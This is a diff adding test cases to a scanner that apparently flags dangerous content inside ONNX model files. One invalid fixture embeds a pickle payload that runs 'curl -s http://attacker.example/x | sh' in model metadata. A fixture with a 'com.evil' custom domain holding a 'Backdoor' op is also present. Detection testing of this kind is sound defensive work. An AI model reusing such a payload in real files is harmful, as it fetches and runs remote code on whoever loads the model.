@@ -14,6 +14,16 @@ const real = (name: string) => (): Uint8Array => readFileSync(new URL(name, REAL
 const REAL_ONNX: RuleCase = { name: 'real ONNX model with external data (onnx 1.23)', files: { 'model.onnx': real('tiny-external.onnx'), 'tiny-external.onnx.data': real('tiny-external.onnx.data') } };
 
 export const ONNX_RULE_CASES: readonly RuleCases[] = [
+  ruleCases('onnx/embedded-object', {
+    valid: [REAL_ONNX, { name: 'ordinary metadata_props', files: { 'model.onnx': () => onnxModel({ opsets: [['', 17]], graph: { nodes: [{ op: 'Relu' }] }, metadata: { author: 'someone', converted_from: 'pytorch 2.1 via torch.onnx.export' } }) } }],
+    invalid: [
+      {
+        name: 'a protocol-0 pickle in metadata_props',
+        files: { 'model.onnx': () => onnxModel({ opsets: [['', 17]], graph: { nodes: [{ op: 'Relu' }] }, metadata: { preprocess: "cos\nsystem\n(S'curl -s http://attacker.example/x | sh'\ntR." } }) },
+        expect: { severity: 'medium', messageIncludes: 'metadata_props' },
+      },
+    ],
+  }),
   ruleCases('onnx/custom-operator-domain', {
     valid: [REAL_ONNX, { name: 'onnxruntime contrib op', files: { 'model.onnx': () => onnxModel({ opsets: [['', 17], ['com.microsoft', 1]], graph: { nodes: [{ op: 'FusedMatMul', domain: 'com.microsoft' }] } }) } }],
     invalid: [{ name: 'custom domain in an If branch', files: { 'model.onnx': () => onnxModel({ opsets: [['', 17], ['com.evil', 1]], graph: { nodes: [{ op: 'If', subgraph: { nodes: [{ op: 'Backdoor', domain: 'com.evil' }] } }] } }) }, expect: { evidenceIncludes: 'com.evil' } }],
